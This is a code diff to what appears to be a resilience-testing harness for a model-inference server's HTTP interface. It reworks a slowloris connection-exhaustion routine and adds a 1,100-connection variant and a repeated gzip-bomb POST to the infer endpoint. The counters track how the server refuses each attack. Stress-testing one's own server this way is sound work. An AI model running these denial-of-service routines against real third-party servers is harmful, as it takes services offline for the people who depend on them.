@@ -333,44 +333,78 @@ def slowloris(target: Target, stop: threading.Event, counters: Counter[str], con
     def byte(i: int) -> bytes:
         return prefix[i : i + 1] if i < len(prefix) else line[(i - len(prefix)) % len(line)].to_bytes()
 
-    socks: dict[socket.socket, int] = {}  # each socket and how much of the head it has sent
+    socks: dict[int, tuple[socket.socket, int]] = {}  # by fd: each socket and how much it has sent
+    poller = select.poll()
 
-    def open_one() -> None:
+    def open_one() -> bool:
         try:
             s = socket.create_connection((target.host, target.http_port), timeout=5)
         except OSError:
             counters["connect_failed"] += 1
-            return
+            return False
         s.setblocking(False)
-        socks[s] = 0
+        socks[s.fileno()] = (s, 0)
+        poller.register(s, select.POLLIN)
         counters["opened"] += 1
+        return True
+
+    def drop(fd: int, counter: str) -> None:
+        counters[counter] += 1
+        s, _ = socks.pop(fd)
+        poller.unregister(s)
+        s.close()
 
     try:
         while not stop.is_set():
-            while len(socks) < connections and not stop.is_set():
-                open_one()
-            readable, _, _ = select.select(list(socks), [], [], 0)
-            for s in readable:  # the server answered or closed: either ends this one
+            while len(socks) < connections and not stop.is_set() and open_one():
+                pass
+            for fd, _ in poller.poll(0):  # the server answered or closed: either ends this one
                 try:
-                    data = s.recv(1024)
+                    data = socks[fd][0].recv(1024)
                 except OSError:
                     data = b""
-                counters["closed_by_server" if not data else "answered"] += 1
-                s.close()
-                del socks[s]
-            for s, sent in list(socks.items()):
+                drop(fd, "closed_by_server" if not data else "answered")
+            for fd, (s, sent) in list(socks.items()):
                 try:
                     s.send(byte(sent))
-                    socks[s] = sent + 1
+                    socks[fd] = (s, sent + 1)
                     counters["head_bytes"] += 1
                 except OSError:
-                    counters["closed_by_server"] += 1
-                    s.close()
-                    del socks[s]
+                    drop(fd, "closed_by_server")
             stop.wait(0.2)
     finally:
-        for s in socks:
+        for s, _ in socks.values():
             s.close()
+
+
+def slowloris_1100(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """:func:`slowloris` on 1,100 connections: more than the server's default --max-connections."""
+    slowloris(target, stop, counters, connections=1100)
+
+
+HTTP_BOMB_MIB = 128  # what http_gzip_bomb's body inflates to
+
+
+def http_gzip_bomb(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """A gzip body of `HTTP_BOMB_MIB` MiB of zeros (about 130 KB on the wire), posted again as soon as
+    it is answered: ``answers_N`` per status, ``names_the_limit`` for refusals whose error says which
+    limit."""
+    body = gzip_bomb(HTTP_BOMB_MIB)
+    while not stop.is_set():
+        try:
+            status, text = post(
+                f"{target.host}:{target.http_port}",
+                body,
+                {"Content-Encoding": "gzip", "Content-Type": "application/json"},
+                path=f"/v2/models/{target.model}/infer",
+                timeout=30,
+            )
+        except OSError:
+            counters["failed"] += 1
+            stop.wait(0.05)
+            continue
+        counters[f"answers_{status}"] += 1
+        counters["names_the_limit"] += "exceeds the limit of" in text
 
 
 def _slow_bodies(target: Target, stop: threading.Event, counters: Counter[str], chunked: bool) -> None:
@@ -412,6 +446,8 @@ H1_ATTACKS: dict[str, Callable[[Target, threading.Event, Counter[str]], None]] =
     "two_content_lengths": two_content_lengths,
     "pipelined_malformed": pipelined_malformed,
     "slowloris": slowloris,
+    "slowloris_1100": slowloris_1100,
+    "http_gzip_bomb": http_gzip_bomb,
     "slow_body_plain": slow_body_plain,
     "slow_body_chunked": slow_body_chunked,
 }
